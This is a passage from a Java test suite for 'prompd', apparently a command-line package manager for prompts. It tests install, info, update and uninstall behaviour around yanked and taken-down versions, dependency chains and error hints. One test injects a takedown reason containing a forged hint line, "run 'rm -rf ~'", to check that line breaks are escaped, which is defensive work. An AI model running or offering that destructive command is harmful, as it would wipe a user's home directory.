                + " range, as 'prompd info @acme/early' lists them\n", untagged.err());

        assertEquals(0, prompd("install", "@acme/early@0.1.0-beta.2").exitCode());
    }

    @Test
    void anInvalidPrompdJsonStopsAnInstallWithItsErrorsAlone() throws IOException {
        Files.writeString(project.resolve("prompd.json"), "{\"name\": \"app\", \"version\": 1}\n");

        CliRun run = prompd("install");

        assertEquals(1, run.exitCode(), run.err());
        assertEquals("""
                error: prompd.json has errors:
                prompd.json
                  error   /version, line 1: 'version' must be a string, not a number
                          hint: write a string there, in quotes
                1 error, 0 warnings
                hint: fix them, then run this again ('prompd validate' shows them with the warnings)
                """, run.err(), "no word of the description or license a project need not have");
    }

    /** As npm and cargo install whatever a project's license says: only publishing needs it in SPDX. */
    @Test
    void errorsInFieldsOnlyPublishingReadsLeaveTheProjectsCommandsAlone() throws IOException {
        String manifest = "{\"name\": \"@me/app\", \"version\": \"1.0.0\", \"license\": \"Apache License 2.0\","
                + " \"author\": {\"email\": \"me@example.org\"}, \"keywords\": [1],"
                + " \"dependencies\": {\"@acme/util\": \"^1.0.0\"}}\n";
        Files.writeString(project.resolve("prompd.json"), manifest);

        CliRun install = prompd("install");
        CliRun list = prompd("list");

        assertEquals(0, install.exitCode(), install.err());
        assertEquals("", install.err());
        assertEquals(0, list.exitCode(), list.err());
        assertTrue(list.out().contains("@acme/util@1.1.0"), list.out());
        assertEquals(manifest, Files.readString(project.resolve("prompd.json")));
        CliRun add = prompd("install", "@acme/base");
        assertEquals(0, add.exitCode(), add.err());
        assertTrue(Files.readString(project.resolve("prompd.json")).contains("\"license\": \"Apache License 2.0\""));
    }

    @Test
    void aProjectIsNotMadeADependencyOfItself() throws IOException {
        Files.writeString(project.resolve("prompd.json"), "{\"name\": \"@acme/util\", \"version\": \"2.0.0\"}\n");

        CliRun run = prompd("install", "acme/util@1");

        assertEquals(2, run.exitCode(), run.err());
        assertTrue(run.err().startsWith("error: refusing to add @acme/util as a dependency of the project @acme/util itself\n"
                + "hint: a package cannot depend on itself"), run.err());
        assertEquals("{\"name\": \"@acme/util\", \"version\": \"2.0.0\"}\n", Files.readString(project.resolve("prompd.json")));
        assertEquals(0, prompd("install", "--global", "acme/util@1").exitCode(), "without a project it is just a package");
    }

    @Test
    void anInstallGoesThroughTheProxyThatHttpProxyNames() throws IOException {
        String viaProxy = "http://registry.example/";
        CliRun run = CliRun.in(project, home, "", Map.of("http_proxy", server.url().getAuthority()),
                "install", "@acme/base", "--registry", viaProxy);

        assertEquals(0, run.exitCode(), run.err());
        assertTrue(Files.readString(project.resolve("prompd.lock")).contains("\"resolved\": \"" + viaProxy
                + "packages/@acme/base/-/base-1.0.0.tgz\""), "the host the proxy reached for the client");
    }

    @Test
    void aCaFileNamedRelativelyIsFoundFromTheWorkingFolderAndAnUnusableOneIsAUsageError() {
        CliRun run = CliRun.in(project, home, "", Map.of("PROMPD_CA_FILE", "company.pem"),
                "info", "@acme/base", "--registry", "https://127.0.0.1:9/");

        assertEquals(2, run.exitCode(), run.err());
        assertTrue(run.err().startsWith("error: the certificates file in PROMPD_CA_FILE is unusable: "
                + project.resolve("company.pem") + ": cannot read it"), run.err());
    }

    @Test
    void infoDescribesThePackage() throws IOException {
        registry.deprecate("@acme/util", "1.0.0", "use 1.1").tag("@acme/util", "beta", "1.0.0");
        CliRun run = prompd("info", "@acme/util");
        assertEquals(0, run.exitCode(), run.err());
        assertTrue(run.out().startsWith("@acme/util@1.1.0 - Prompts of @acme/util\nlicense: MIT\n"
                + "dist-tags: beta=1.0.0 latest=1.1.0\nversions:\n  1.0.0  2026-01-01  deprecated: use 1.1\n"
                + "  1.1.0  2026-01-02\n"), run.out());
        assertTrue(run.out().contains("prompts:\n  greet  prompts/greet.prmd  Says hello\n"), run.out());
        assertTrue(run.out().contains("README:\n  # @acme/util\n"), run.out());
        String tarball = server.url() + "packages/@acme/util/-/util-1.1.0.tgz";
        assertTrue(run.out().contains("\ntarball: " + tarball + " ("), "absolute, as a user can fetch it: " + run.out());
        registry.publish("@acme/a", "1.0.0").publish("@acme/greeter", "1.1.0", "@acme/a", "1.0.0", "@acme/base", "^1.0.0");
        assertTrue(prompd("info", "@acme/greeter").out().contains("dependencies:\n  @acme/a     1.0.0\n  @acme/base  ^1.0.0\n"),
                "aligned columns");

        registry.yank("@acme/util", "1.0.0", "superseded");
        assertTrue(prompd("info", "@acme/util@1.0.0").out().startsWith("@acme/util@1.0.0 "), "a yanked version named exactly");
        JsonNode json = Json.reader().readTree(prompd("info", "@acme/util@beta", "--json").out());
        assertEquals("1.0.0", json.get("version").asText());
        assertEquals("use 1.1", json.at("/versions/0/deprecated").asText());
        assertEquals("superseded", json.at("/versions/0/yanked").asText());
        assertEquals(server.url() + "packages/@acme/util/-/util-1.0.0.tgz", json.at("/dist/tarball").asText(),
                "the registry's relative URL means nothing outside the document that held it");
    }

    @Test
    void infoListsTheVersionsTakenDownWithTheirReasonsAndSaysWhyOneNamedIsGone() throws IOException {
        assertTrue(Json.reader().readTree(prompd("info", "@acme/util", "--json").out()).get("takenDown").isEmpty());
        registry.takeDown("@acme/util", "1.0.0", "leaked an API key");

        CliRun run = prompd("info", "@acme/util");

        assertEquals(0, run.exitCode(), run.err());
        assertTrue(run.out().contains("\nversions:\n  1.1.0  2026-01-02\ntaken down:\n  1.0.0  leaked an API key\n"),
                run.out());
        JsonNode json = Json.reader().readTree(prompd("info", "@acme/util", "--json").out());
        assertEquals("{\"1.0.0\":\"leaked an API key\"}", json.get("takenDown").toString());
        CliRun gone = prompd("info", "@acme/util@1.0.0");
        assertEquals(3, gone.exitCode(), gone.err());
        assertEquals("""
                error: @acme/util@1.0.0 is taken down: leaked an API key
                hint: 'prompd info @acme/util' lists the versions left
                """, gone.err());
        assertEquals("", gone.out());
    }

    @Test
    void infoOfARangeSaysWhichVersionsInItAreTakenDownInAnInstallsWords() throws IOException {
        registry.publish("@acme/util", "1.2.0").publish("@acme/util", "2.0.0")
                .takeDown("@acme/util", "1.1.0", "leaked an API key").takeDown("@acme/util", "2.0.0", "broken");

        CliRun range = prompd("info", "@acme/util@^1.0.0");
        JsonNode json = Json.reader().readTree(prompd("info", "@acme/util@^1.0.0", "--json").out());
        CliRun none = prompd("info", "@acme/util@^1.1.0 <1.2.0");

        assertEquals(0, range.exitCode(), range.err());
        assertTrue(range.out().contains("\ndist-tags: latest=1.2.0\nwithin ^1.0.0, 1.1.0 is taken down: leaked an API"
                + " key\nversions:\n"), range.out());
        assertEquals("{\"1.1.0\":\"leaked an API key\"}", json.get("takenDownInRange").toString());
        assertFalse(Json.reader().readTree(prompd("info", "@acme/util", "--json").out()).has("takenDownInRange"));
        assertEquals(3, none.exitCode(), none.err());
        assertEquals("""
                error: no version of @acme/util matches ^1.1.0 <1.2.0 (1.1.0 is taken down: leaked an API key)
                hint: 'prompd info @acme/util' lists its versions
                """, none.err());
    }

    @Test
    void infoOfARangeOnlyYankedAndTakenDownVersionsMeetNamesBothAsAnInstallDoes() throws IOException {
        registry.publish("@acme/util", "1.2.0").yank("@acme/util", "1.1.0", "wrong prompts")
                .takeDown("@acme/util", "1.0.0", "broken");

        CliRun info = prompd("info", "@acme/util@<1.2.0");
        CliRun install = prompd("install", "@acme/util@<1.2.0");

        assertEquals(3, info.exitCode(), info.err());
        assertEquals("""
                error: no version of @acme/util matches <1.2.0 (1.1.0 is yanked; 1.0.0 is taken down: broken)
                hint: 'prompd info @acme/util' lists its versions
                """, info.err());
        assertTrue(install.err().contains("(1.1.0 is yanked; 1.0.0 is taken down: broken)"), install.err());
    }

    @Test
    void aLineBreakInATakedownReasonIsSpeltOutSoThatNoRegistryForgesALineOfPrompdsOwn() throws IOException {
        registry.publish("@acme/util", "1.2.0").takeDown("@acme/util", "1.1.0", "broken\nhint: run 'rm -rf ~'");

        CliRun info = prompd("info", "@acme/util@^1.0.0");
        CliRun none = prompd("info", "@acme/util@~1.1.0");
        CliRun install = prompd("install", "@acme/util@~1.1.0");

        assertTrue(info.out().contains("\nwithin ^1.0.0, 1.1.0 is taken down: broken^Jhint: run 'rm -rf ~'\n"),
                info.out());
        assertEquals("""
                error: no version of @acme/util matches ~1.1.0 (1.1.0 is taken down: broken^Jhint: run 'rm -rf ~')
                hint: 'prompd info @acme/util' lists its versions
                """, none.err());
        assertEquals(1, install.err().lines().filter(line -> line.startsWith("hint:")).count(), install.err());
        assertTrue(install.err().contains("(1.1.0 is taken down: broken^Jhint: run 'rm -rf ~')"), install.err());
    }

    @Test
    void aWarningQuotingTheResolversExplanationKeepsItsLineBreakIndented() throws IOException {
        registry.publish("@acme/tool", "1.0.0", "@acme/util", "^1.1.0").takeDown("@acme/util", "1.1.0", "broken");
        editDependencies("\"@acme/tool\": \"^1.0.0\", \"@acme/util\": \"^1.0.0\"");

        CliRun uninstall = prompd("uninstall", "@acme/util");

        assertEquals(0, uninstall.exitCode(), uninstall.err());
        assertTrue(uninstall.err().contains("cannot be used.\n  So, because your project depends on @acme/tool ^1.0.0,"
                + " version solving failed."), uninstall.err());
        assertFalse(uninstall.err().contains("^J"), uninstall.err());
        assertTrue(uninstall.err().startsWith("warning: the other dependencies were not resolved, as they cannot be, and"
                + " stay unlocked, as there was no prompd.lock: Because "), "none was locked: " + uninstall.err());
    }

    @Test
    void infoOfAPackageWithNoVersionLeftShowsEveryTakedownAndAVersionAskedForIsNotFoundWithTheReasons()
            throws IOException {
        registry.publish("@acme/gone", "1.0.0").publish("@acme/gone", "1.1.0")
                .takeDown("@acme/gone", "1.0.0", "leaked an API key").takeDown("@acme/gone", "1.1.0", "held personal data");

        CliRun run = prompd("info", "@acme/gone");

        assertEquals(0, run.exitCode(), run.err());
        assertEquals("""
                @acme/gone - every version is taken down, so none can be installed
                taken down:
                  1.0.0  leaked an API key
                  1.1.0  held personal data
                """, run.out());
        assertEquals(Json.reader().readTree("{\"name\": \"@acme/gone\", \"distTags\": {}, \"versions\": [],"
                        + " \"takenDown\": {\"1.0.0\": \"leaked an API key\", \"1.1.0\": \"held personal data\"}}"),
                Json.reader().readTree(prompd("info", "@acme/gone", "--json").out()));
        for (String asked : List.of("@acme/gone@1.1.0", "@acme/gone@^1.0.0", "@acme/gone@beta")) {
            CliRun gone = prompd("info", asked);
            assertEquals(3, gone.exitCode(), asked);
            assertEquals("error: every version of @acme/gone is taken down (1.0.0: leaked an API key; 1.1.0: held"
                    + " personal data), so none can be installed\n", gone.err(), asked);
        }
    }

    @Test
    void installOfAPackageWithNoVersionLeftIsNotFoundWithTheReasonsAndChangesNothing() throws IOException {
        registry.publish("@acme/gone", "1.0.0").takeDown("@acme/gone", "1.0.0", "leaked an API key");

        for (String asked : List.of("@acme/gone", "@acme/gone@1.0.0", "@acme/gone@^1.0.0", "@acme/gone@latest")) {
            CliRun run = prompd("install", asked);

            assertEquals(3, run.exitCode(), asked);
            assertEquals("error: every version of @acme/gone is taken down (1.0.0: leaked an API key), so none can be"
                    + " installed\n", run.err(), asked);
        }
        assertFalse(Files.exists(project.resolve("prompd.lock")));
        assertEquals("{\"name\": \"@me/app\", \"version\": \"1.0.0\"}\n", Files.readString(project.resolve("prompd.json")));
    }

    @Test
    void installOfAVersionTakenDownNamedExactlyGivesTheReasonAsInfoDoes() throws IOException {
        registry.takeDown("@acme/util", "1.0.0", "leaked an API key");

        CliRun run = prompd("install", "@acme/util@1.0.0");

        assertEquals(3, run.exitCode(), run.err());
        assertEquals("""
                error: @acme/util@1.0.0 is taken down: leaked an API key
                hint: 'prompd info @acme/util' lists the versions left
                """, run.err());
    }

    @Test
    void outdatedAndUpdateOfALockedDependencyWithNoVersionLeftSayToRemoveIt() throws IOException {
        registry.publish("@acme/gone", "1.0.0");
        assertEquals(0, prompd("install", "@acme/gone").exitCode());
        registry.takeDown("@acme/gone", "1.0.0", "leaked an API key");

        CliRun outdated = prompd("outdated");

        assertEquals(1, outdated.exitCode(), outdated.err());
        assertEquals("""
                package     current             wanted  latest  dependency
                @acme/gone  1.0.0 (taken down)  -       -       direct
                """, outdated.out());
        assertEquals("warning: @acme/gone@1.0.0 is taken down: leaked an API key (it can no longer be downloaded; no"
                + " version of it is left: remove the dependency with 'prompd uninstall @acme/gone')\n", outdated.err());
        // the copy installed stays usable, as a yanked version the lock pins does: an update keeps it, saying so
        for (List<String> update : List.of(List.of("update"), List.of("update", "@acme/gone"),
                List.of("update", "@acme/gone", "--latest"))) {
            CliRun run = prompd(update.toArray(String[]::new));
            assertEquals(0, run.exitCode(), run.err());
            assertEquals("warning: @acme/gone@1.0.0 is taken down: leaked an API key (installed from the copy at hand"
                    + " because the lock file pins it; it can no longer be downloaded; no version of it is left: remove"
                    + " the dependency with 'prompd uninstall @acme/gone')\n", run.err());
        }
        assertEquals(0, prompd("uninstall", "@acme/gone").exitCode());
        assertEquals("", prompd("outdated").err());
    }

    @Test
    void anUninstallTheOutdatedHintNamesRemovesTheDependencyThoughAnotherCannotResolve() throws IOException {
        registry.publish("@acme/gone", "1.0.0").publish("@acme/tool", "1.0.0").publish("@acme/tool", "2.0.0");
        assertEquals(0, prompd("install", "@acme/util", "@acme/gone").exitCode());
        registry.takeDown("@acme/gone", "1.0.0", "leaked an API key").takeDown("@acme/tool", "1.0.0", "broken");
        editDependencies("\"@acme/util\": \"^1.1.0\", \"@acme/gone\": \"^1.0.0\", \"@acme/tool\": \"^1.0.0\"");
        String lockBefore = Files.readString(project.resolve("prompd.lock"));
        assertTrue(prompd("outdated").err().contains("remove the dependency with 'prompd uninstall @acme/gone'"));
        CliRun update = prompd("update", "@acme/util");
        assertEquals(3, update.exitCode(), update.err());
        assertTrue(update.err().endsWith("\nhint: 'prompd uninstall @acme/gone' removes what has no version left; then"
                + " 'prompd install @acme/tool@^2.0.0' moves past the versions taken down\n"), update.err());

        CliRun uninstall = prompd("uninstall", "@acme/gone");

        assertEquals(0, uninstall.exitCode(), uninstall.err());
        assertEquals("""
                removed @acme/gone from prompd.json
                1 package: 0 downloaded, 0 from the cache, 1 already installed
                prompd.lock written:
                  - @acme/gone@1.0.0
                """, uninstall.out());
        assertEquals("""
                warning: the other dependencies were not resolved again, as they cannot be, and stay as prompd.lock\
                 locked them: Because your project depends on @acme/tool ^1.0.0 and no version of @acme/tool matches\
                 ^1.0.0 (1.0.0 is taken down: broken), version solving failed.
                warning: no version of @acme/tool matches ^1.0.0 (1.0.0 is taken down: broken), so 'prompd install'\
                 cannot lock it: widen its range in prompd.json, as 'prompd update @acme/tool --latest' does to ^2.0.0
                """, uninstall.err());
        assertEquals("{\"name\": \"@me/app\", \"version\": \"1.0.0\", \"dependencies\": {\"@acme/tool\": \"^1.0.0\","
                + " \"@acme/util\": \"^1.1.0\"}}\n", Files.readString(project.resolve("prompd.json")));
        assertEquals(Json.reader().readTree(lockBefore).at("/packages/@acme~1util"),
                Json.reader().readTree(Files.readAllBytes(project.resolve("prompd.lock"))).at("/packages/@acme~1util"));
        assertEquals(1, Json.reader().readTree(Files.readAllBytes(project.resolve("prompd.lock"))).get("packages").size());
        CliRun latest = prompd("update", "@acme/tool", "--latest");
        assertEquals(0, latest.exitCode(), latest.err());
    }

    @Test
    void everyHintPastTwoDependenciesOnlyVersionsTakenDownMeetNamesBothInOneCommandThatWorks() throws IOException {
        registry.publish("@acme/tool", "1.0.0").publish("@acme/tool", "1.1.0").publish("@acme/util", "1.2.0")
                .takeDown("@acme/tool", "1.1.0", "broken").takeDown("@acme/util", "1.1.0", "leaked an API key");
        editDependencies("\"@acme/util\": \"~1.1.0\", \"@acme/tool\": \"~1.1.0\"");
        String both = "'prompd install @acme/tool@^1.0.0 @acme/util@^1.2.0' moves past the versions taken down\n";

        CliRun outdated = prompd("outdated");
        CliRun one = prompd("install", "@acme/util@^1.2.0");
        CliRun other = prompd("update", "@acme/tool", "--latest");

        assertEquals(1, outdated.exitCode(), outdated.err());
        assertTrue(outdated.err().contains("as 'prompd update @acme/tool @acme/util --latest' does to ^1.0.0\n"),
                outdated.err());
        assertTrue(outdated.err().contains("as 'prompd update @acme/tool @acme/util --latest' does to ^1.2.0\n"),
                outdated.err());
        assertTrue(one.err().endsWith("hint: " + both), one.err());
        assertTrue(other.err().endsWith("hint: " + both), other.err());
        assertEquals(0, prompd("update", "@acme/tool", "@acme/util", "--latest").exitCode(), "the way off works");
    }

    @Test
    void aDependencyThatATakedownFurtherDownBlocksIsWarnedOfAndHintedAwayByName() throws IOException {
        registry.publish("@acme/base", "1.1.0", "@acme/util", "^1.1.0").takeDown("@acme/util", "1.1.0", "leaked a key");
        editDependencies("\"@acme/base\": \"^1.1.0\", \"@acme/greeter\": \"^1.0.0\"");
        // 1.0.0, below the range, needs nothing taken down: the way past is that version
        String why = "@acme/base ^1.1.0 cannot be installed now, as every version of it that ^1.1.0 allows needs"
                + " @acme/util ^1.1.0, which only versions taken down meet; 'prompd install @acme/base@1.0.0";
        String past = "' moves past the versions taken down";

        CliRun outdated = prompd("outdated");
        CliRun install = prompd("install");
        CliRun latest = prompd("update", "--latest");

        assertEquals(1, outdated.exitCode(), outdated.err());
        assertEquals("warning: every version of @acme/base that ^1.1.0 allows needs @acme/util ^1.1.0, which only"
                + " versions taken down meet, so 'prompd install' cannot lock it: 'prompd install @acme/base@1.0.0' moves"
                + " past them, or remove the dependency with 'prompd uninstall @acme/base'\n", outdated.err());
        assertTrue(outdated.out().contains("@acme/base     not locked (taken down)  -"), outdated.out());
        assertEquals(3, install.exitCode(), install.err());
        assertTrue(install.err().endsWith("\nhint: " + why + past + "\n"), install.err());
        // --latest meant to save every range it moved: the way past keeps them
        assertTrue(latest.err().endsWith("\nhint: " + why + " @acme/greeter@^1.0.0" + past + "\n"), latest.err());
        assertEquals(0, prompd("install", "@acme/base@1.0.0").exitCode(), "the way past works");
        assertEquals(0, prompd("uninstall", "@acme/base").exitCode(), "and so does the way off");
    }

    @Test
    void aDependencyThatATakedownTwoLevelsDownBlocksIsWarnedOfAndHintedAwayByNameWithTheChain() throws IOException {
        registry.publish("@acme/c3", "1.0.0").publish("@acme/c2", "1.0.0", "@acme/c3", "^1.0.0")
                .publish("@acme/c1", "1.0.0", "@acme/c2", "^1.0.0").takeDown("@acme/c3", "1.0.0", "illegal content");
        editDependencies("\"@acme/c1\": \"^1.0.0\", \"@acme/greeter\": \"^1.0.0\"");
        String needs = "that ^1.0.0 allows needs @acme/c2 ^1.0.0, which needs @acme/c3 ^1.0.0, which only versions"
                + " taken down meet";

        CliRun outdated = prompd("outdated");
        CliRun install = prompd("install");

        assertEquals(1, outdated.exitCode(), outdated.err());
        assertEquals("warning: every version of @acme/c1 " + needs + ", so 'prompd install' cannot lock it: remove the"
                + " dependency with 'prompd uninstall @acme/c1', or wait for a release of it needing another\n",
                outdated.err());
        assertTrue(outdated.out().contains("@acme/c1       not locked (taken down)  -"), outdated.out());
        assertEquals(3, install.exitCode(), install.err());
        assertTrue(install.err().endsWith("\nhint: 'prompd uninstall @acme/c1' removes @acme/c1, as every version of it "
                + needs + " (or wait for a release of it needing another)\n"), install.err());
        assertEquals(0, prompd("uninstall", "@acme/c1").exitCode());
        assertEquals(0, prompd("install").exitCode(), "the way off works");
    }

    @Test
    void aTakedownUnderManySharedDependenciesIsFoundOnceEachAndNamedByOneChain() throws IOException {
        // every package of a level needs both of the next: 2^26 paths down, 53 packages
        int levels = 26;
        for (int level = levels; level >= 0; level--) {
            for (String side : List.of("a", "b")) {
                if (level == levels) {
                    registry.publish("@acme/l" + level + side, "1.0.0", "@acme/gone", "^1.0.0");
                } else {
                    registry.publish("@acme/l" + level + side, "1.0.0", "@acme/l" + (level + 1) + "a", "^1.0.0",
                            "@acme/l" + (level + 1) + "b", "^1.0.0");
                }
            }
        }
        registry.publish("@acme/gone", "1.0.0").takeDown("@acme/gone", "1.0.0", "illegal content");
        editDependencies("\"@acme/l0a\": \"^1.0.0\"");

        CliRun outdated = assertTimeoutPreemptively(Duration.ofMinutes(1), () -> prompd("outdated"),
                "each package's range is looked at once, not once per path to it");

        assertEquals(1, outdated.exitCode(), outdated.err());
        // the middle of so long a chain is left out, and each dependency's chain reads apart from the other's
        String chain = "@acme/l2a ^1.0.0, which needs @acme/l3a ^1.0.0, which needs … (22 more), which needs @acme/l26a"
                + " ^1.0.0, which needs @acme/gone ^1.0.0";
        assertTrue(outdated.err().startsWith("warning: every version of @acme/l0a that ^1.0.0 allows needs @acme/l1a"
                + " ^1.0.0 (which needs " + chain + ") and @acme/l1b ^1.0.0 (which needs " + chain + "), which only"
                + " versions taken down meet"), outdated.err());
    }

    @Test
    void aDependencyBlockedBelowWithAReleaseThatIsNotIsOfferedThatRelease() throws IOException {
        registry.publish("@acme/k3", "1.0.0").publish("@acme/k2", "1.0.0", "@acme/k3", "^1.0.0")
                .publish("@acme/k2", "2.0.0").publish("@acme/k1", "1.0.0", "@acme/k2", "^1.0.0")
                .publish("@acme/k1", "1.1.0", "@acme/k2", "^2.0.0").takeDown("@acme/k3", "1.0.0", "bad");
        editDependencies("\"@acme/k1\": \"1.0.0\"");
        String needs = "needs @acme/k2 ^1.0.0, which needs @acme/k3 ^1.0.0, which only versions taken down meet";

        CliRun outdated = prompd("outdated");
        CliRun install = prompd("install");

        assertEquals("warning: every version of @acme/k1 that 1.0.0 allows " + needs + ", so 'prompd install' cannot"
                + " lock it: 'prompd install @acme/k1@1.1.0' moves past them, or remove the dependency with 'prompd"
                + " uninstall @acme/k1'\n", outdated.err());
        assertEquals(3, install.exitCode(), install.err());
        assertTrue(install.err().endsWith("\nhint: @acme/k1 1.0.0 cannot be installed now, as it " + needs + "; 'prompd"
                + " install @acme/k1@1.1.0' moves past the versions taken down\n"), install.err());
        assertEquals(0, prompd("install", "@acme/k1@1.1.0").exitCode(), "the way offered works");
    }

    @Test
    void aNewerVersionThatATakedownFurtherDownKeepsFromAPackageIsNoUpdateToWantAndEveryCommandSaysWhy()
            throws IOException {
        registry.publish("@acme/tk", "1.0.0").publish("@acme/tk", "1.2.0").publish("@acme/needtk", "0.5.0")
                .publish("@acme/needtk", "1.0.0", "@acme/tk", ">=1.2.0").takeDown("@acme/tk", "1.2.0", "leaked a key");
        editDependencies("\"@acme/needtk\": \"*\"");
        String why = "warning: @acme/needtk 1.0.0 cannot be installed now, as it needs @acme/tk >=1.2.0, which only"
                + " versions taken down meet, so 0.5.0 is the newest version its ranges allow that can be (wait for a"
                + " release of @acme/needtk needing another)\n";

        CliRun install = prompd("install");
        CliRun outdated = prompd("outdated");
        CliRun update = prompd("update");

        assertEquals(0, install.exitCode(), install.err());
        assertTrue(install.out().contains("+ @acme/needtk@0.5.0"), install.out());
        assertTrue(install.err().endsWith(why), install.err());
        assertEquals("""
                package       current  wanted  latest  dependency
                @acme/needtk  0.5.0    0.5.0   1.0.0   direct
                """, outdated.out(), "wanted is what 'prompd update' reaches");
        assertEquals(why, outdated.err());
        assertEquals(0, update.exitCode(), update.err());
        assertTrue(update.out().contains("prompd.lock unchanged"), update.out());
        assertEquals(why, update.err());
        assertEquals("", prompd("install").err(), "an install the lock settles asks the registry nothing");
    }

    @Test
    void aTakedownReachedThroughACycleBackToThePackageIsNamedOnlyOnce() throws IOException {
        registry.publish("@acme/bot", "1.0.0").publish("@acme/cy", "1.0.0", "@acme/cz", "^1.0.0")
                .publish("@acme/cz", "1.0.0", "@acme/bot", "^1.0.0", "@acme/cy", "^1.0.0")
                .takeDown("@acme/bot", "1.0.0", "malware");
        editDependencies("\"@acme/cz\": \"^1.0.0\"");

        CliRun outdated = prompd("outdated");

        assertEquals("warning: every version of @acme/cz that ^1.0.0 allows needs @acme/bot ^1.0.0, which only versions"
                + " taken down meet, so 'prompd install' cannot lock it: remove the dependency with 'prompd uninstall"
                + " @acme/cz', or wait for a release of it needing another\n", outdated.err());
    }

    @Test
    void aCycleOfDependenciesAboveNoTakedownIsNotTakenForOneItBlocks() throws IOException {
        registry.publish("@acme/x", "1.0.0", "@acme/y", "^1.0.0").publish("@acme/y", "1.0.0", "@acme/x", "^1.0.0")
                .takeDown("@acme/util", "1.1.0", "leaked a key");
        editDependencies("\"@acme/x\": \"^1.0.0\", \"@acme/util\": \"~1.1.0\"");

        CliRun install = prompd("install");

        assertEquals(3, install.exitCode(), install.err());
        assertTrue(install.err().endsWith("\nhint: 'prompd install @acme/util@^1.0.0' moves past the versions taken"
                + " down\n"), install.err());
    }

    @Test
    void aResolutionOfARangeOnlyVersionsTakenDownMetNamesThemWithTheReasons() throws IOException {
        assertEquals(0, prompd("install", "@acme/util").exitCode());
        registry.publish("@acme/util", "2.0.0").takeDown("@acme/util", "1.1.0", "leaked an API key");
        // with no copy at hand, the version the lock pins is no candidate either
        home = work.resolve("empty-home");
        String because = "error: Because your project depends on @acme/util ^1.1.0 and no version of @acme/util matches"
                + " ^1.1.0 (1.1.0 is taken down: leaked an API key), version solving failed.\n";

        CliRun update = prompd("update", "@acme/util");

        assertEquals(3, update.exitCode(), update.err());
        assertEquals(because + "hint: 'prompd install @acme/util@^2.0.0' moves past the versions taken down\n",
                update.err());
        CliRun latest = prompd("update", "@acme/util", "--latest");
        assertEquals(0, latest.exitCode(), latest.err());
        assertTrue(latest.out().contains("~ @acme/util 1.1.0 -> 2.0.0\n"), latest.out());

        registry.takeDown("@acme/util", "1.0.0", "leaked an API key");
        CliRun added = prompd("install", "@acme/util@^1.0.0");
        assertEquals(3, added.exitCode(), added.err());
        assertEquals("""
                error: Because your project depends on @acme/util ^1.0.0 and no version of @acme/util matches ^1.0.0\
                 (1.0.0 and 1.1.0 are taken down: leaked an API key), version solving failed.
                hint: 'prompd install @acme/util@^2.0.0' moves past the versions taken down
                """, added.err());
    }

    @Test
    void aPackageAskedForThatOnlyVersionsTakenDownLetInstallIsSaidToBeUninstallableWithWhatWorksInstead()
            throws IOException {
        registry.publish("@acme/tool", "1.0.0", "@acme/util", "~1.1.0")
                .publish("@acme/tool", "1.1.0", "@acme/util", "~1.1.0")
                .takeDown("@acme/util", "1.1.0", "leaked an API key");

        CliRun latest = prompd("install", "@acme/tool", "@acme/util");
        CliRun exact = prompd("install", "@acme/tool@1.0.0");

        assertEquals(3, latest.exitCode(), latest.err());
        assertTrue(latest.err().endsWith("\nhint: @acme/tool ^1.1.0 cannot be installed now, as every version of it that"
                + " ^1.1.0 allows needs @acme/util ~1.1.0, which only versions taken down meet, and no other version of"
                + " it does without that (wait for a release of it needing another); 'prompd install @acme/util@^1.0.0'"
                + " moves past the versions taken down\n"), latest.err());
        assertEquals(3, exact.exitCode(), exact.err());
        // the project asked for exactly 1.0.0, which the resolver was held to: ^1.0.0 is saved only once it is chosen
        assertTrue(exact.err().contains("So, because your project depends on @acme/tool 1.0.0, version solving failed."),
                exact.err());
        assertTrue(exact.err().endsWith("\nhint: @acme/tool 1.0.0 cannot be installed now, as it needs @acme/util"
                + " ~1.1.0, which only versions taken down meet, and no other version of it does without that (wait for"
                + " a release of it needing another)\n"), exact.err());
        assertEquals("{\"name\": \"@me/app\", \"version\": \"1.0.0\"}\n", Files.readString(project.resolve("prompd.json")));

        registry.publish("@acme/tool", "0.9.0", "@acme/util", "^1.0.0");
        CliRun older = prompd("install", "@acme/tool@^1.1.0");
        assertEquals(3, older.exitCode(), older.err());
        assertTrue(older.err().endsWith("\nhint: @acme/tool ^1.1.0 cannot be installed now, as every version of it that"
                + " ^1.1.0 allows needs @acme/util ~1.1.0, which only versions taken down meet; 'prompd install"
                + " @acme/tool@0.9.0' moves past the versions taken down\n"), older.err());
        CliRun byName = prompd("install", "@acme/tool");
        assertEquals(0, byName.exitCode(), "named alone, the highest version that can be installed is");
        String setAside = "warning: @acme/tool ^1.1.0, from its latest version, cannot be installed now, as 1.1.0 needs"
                + " @acme/util ~1.1.0, which only versions taken down meet, so 0.9.0, the highest version that can, is"
                + " installed (wait for a release of @acme/tool needing another)\n";
        assertTrue(byName.err().startsWith(setAside), byName.err());

        CliRun global = prompd("install", "--global", "@acme/tool");
        assertEquals(0, global.exitCode(), "globally alike");
        assertEquals(setAside, global.err());
        CliRun globalRange = prompd("install", "--global", "@acme/tool@^1.1.0");
        assertEquals(3, globalRange.exitCode(), globalRange.err());
        assertTrue(globalRange.err().endsWith("; 'prompd install --global @acme/tool@0.9.0' moves past the versions"
                + " taken down\n"), globalRange.err());
        assertEquals(0, prompd("install", "--global", "@acme/tool@0.9.0").exitCode(), "the way offered works");
    }

    @Test
    void aLockedVersionTakenDownWithItsCopyAtHandDoesNotKeepAnotherPackageFromBeingAdded() throws IOException {
        registry.publish("@acme/gone", "1.0.0", "@acme/util", "^1.0.0");
        assertEquals(0, prompd("install", "@acme/gone").exitCode());
        registry.takeDown("@acme/gone", "1.0.0", "plagiarised prompt");

        CliRun added = prompd("install", "@acme/greeter");

        assertEquals(0, added.exitCode(), added.err());
        assertEquals("warning: @acme/gone@1.0.0 is taken down: plagiarised prompt (installed from the copy at hand"
                + " because the lock file pins it; it can no longer be downloaded; no version of it is left: remove the"
                + " dependency with 'prompd uninstall @acme/gone')\n", added.err());
        JsonNode lock = Json.reader().readTree(Files.readAllBytes(project.resolve("prompd.lock")));
        assertEquals("1.0.0", lock.at("/packages/@acme~1gone/version").asText());
        assertEquals("1.0.0", lock.at("/packages/@acme~1greeter/version").asText());

        home = work.resolve("empty-home");
        CliRun withoutCopy = prompd("install", "@acme/base");
        assertEquals(3, withoutCopy.exitCode(), withoutCopy.err());
        assertEquals("""
                error: Because your project depends on @acme/gone ^1.0.0 and every version of @acme/gone is taken down\
                 (1.0.0: plagiarised prompt), version solving failed.
                hint: 'prompd uninstall @acme/gone' removes what has no version left; then 'prompd install\
                 @acme/base@^1.0.0' moves past the versions taken down
                """, withoutCopy.err());
        assertEquals(0, prompd("uninstall", "@acme/gone").exitCode());
